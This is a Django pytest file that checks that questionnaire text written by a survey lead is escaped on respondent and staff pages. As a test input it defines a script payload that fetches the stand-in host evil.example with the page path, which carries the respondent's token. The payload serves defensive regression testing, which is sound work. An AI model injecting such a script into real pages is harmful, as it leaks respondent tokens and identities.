"""Questionnaire text a lead types is shown as text everywhere, never run as markup.

A hint with a script would read the respondent's token from the address, and SHA-256 of the
token finds the invitation's person (issue 11, finding 1)."""

import pytest
from django.urls import reverse

from tests.surveys import helpers
from workforce_health.core.models import Membership
from workforce_health.surveys.models import Questionnaire, Wave
from workforce_health.surveys.services import questionnaires

pytestmark = pytest.mark.django_db

SCRIPT = '<script>fetch("//evil.example/"+location.pathname)</script>'
HOSTILE = f"<b>HINT</b>{SCRIPT}"
ESCAPED = "&lt;b&gt;HINT&lt;/b&gt;&lt;script&gt;"


def _add(lead, copy: Questionnaire, item_type: str, form: dict[str, str]) -> None:
    url = reverse(
        "survey-questionnaire-item-add",
        kwargs={"questionnaire_id": copy.pk, "item_type": item_type},
    )
    response = lead.post(url, form)
    assert response.status_code == 302, response.content.decode()


@pytest.fixture
def lead(council, client_for):
    return client_for(council.users[Membership.Role.WORKFORCE_LEAD])


@pytest.fixture
def hostile_copy(council, lead) -> Questionnaire:
    """A council copy whose title, questions, hints, section, options and unit carry markup."""
    copy = questionnaires.questionnaire_copy(
        organisation=council.organisation, questionnaire=helpers.builtin(), title=f"Ours {HOSTILE}"
    )
    text = {"text": f"Question {HOSTILE}", "hint": HOSTILE}
    agree = {"code": "our_a", "section": "workload", "group": "theme:workplace"}
    _add(lead, copy, "agree", text | agree)
    choice = {
        "code": "our_c",
        "section": "__new__",
        "new_section_title": f"Section {HOSTILE}",
        "options": f"{HOSTILE}\nPlain option",
    }
    _add(lead, copy, "choice", text | choice)
    number = {"code": "our_n", "section": "workload", "min": "0", "max": "9", "decimals": "0"}
    _add(lead, copy, "number", text | number | {"unit": "<i>u</i>"})
    return Questionnaire.objects.get(pk=copy.pk)


def _respondent_pages(client, wave: Wave) -> list[str]:
    token = helpers.invitation_tokens(wave)[0]
    urls = [reverse("survey-start", kwargs={"token": token})]
    for number in range(1, len(wave.questionnaire.parsed().sections) + 1):
        urls.append(reverse("survey-section", kwargs={"token": token, "number": number}))
    urls.append(reverse("survey-check", kwargs={"token": token}))
    pages = [client.get(url) for url in urls]
    assert all(page.status_code == 200 for page in pages)
    return [page.content.decode() for page in pages]


def _assert_inert(page: str) -> None:
    assert SCRIPT not in page and "<b>HINT</b>" not in page and "<i>u</i>" not in page


def test_respondent_pages_show_questionnaire_markup_as_text(council, client, hostile_copy):
    helpers.give_emails(council)
    wave = helpers.open_wave(council, questionnaire=hostile_copy)
    pages = _respondent_pages(client, wave)
    for page in pages:
        _assert_inert(page)
    joined = "\n".join(pages)
    # The hint, question, section title and option are all there, as text.
    assert joined.count(ESCAPED) >= 5


def test_staff_pages_show_questionnaire_markup_as_text(council, lead, hostile_copy):
    wave = helpers.wave(council, questionnaire=hostile_copy)
    for url in (
        reverse("survey-questionnaire-detail", kwargs={"questionnaire_id": hostile_copy.pk}),
        reverse("survey-questionnaire-edit", kwargs={"questionnaire_id": hostile_copy.pk}),
        reverse("survey-wave-detail", kwargs={"wave_id": wave.pk}),
    ):
        page = lead.get(url)
        assert page.status_code == 200, url
        _assert_inert(page.content.decode())
